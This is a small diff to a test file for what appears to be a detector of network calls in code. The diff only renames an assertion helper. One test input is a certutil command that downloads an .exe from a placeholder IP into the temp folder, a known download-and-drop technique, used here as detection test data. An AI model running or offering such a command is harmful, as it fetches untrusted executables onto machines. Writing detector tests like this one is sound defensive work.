@@ -1,4 +1,4 @@
-import { assertFound, assertNone } from './findHelpers';
+import { assertFound, assertNothingFound } from './findHelpers';
 
 describe('what tools print and read', () => {
   it('network tools', () => {
@@ -141,11 +141,11 @@ describe('what tools print and read', () => {
       [['certutil -urlcache -f http://203.0.113.5/a.exe %TEMP%\\a.exe', ['url http://203.0.113.5/a.exe']]],
       'bat',
     );
-    assertNone(['func main() { fmt.Println(os.Args[1], cfg.Host.Name) }'], 'go');
-    assertNone(
+    assertNothingFound(['func main() { fmt.Println(os.Args[1], cfg.Host.Name) }'], 'go');
+    assertNothingFound(
       ['val x = list.first().name; println(user.email)', 'package org.acme.app\nimport com.acme.net.Api'],
       'kotlin',
     );
-    assertNone(['struct A: Codable { var id: Int }; let n = user.name ?? item.info'], 'swift');
+    assertNothingFound(['struct A: Codable { var id: Int }; let n = user.name ?? item.info'], 'swift');
   });
 });
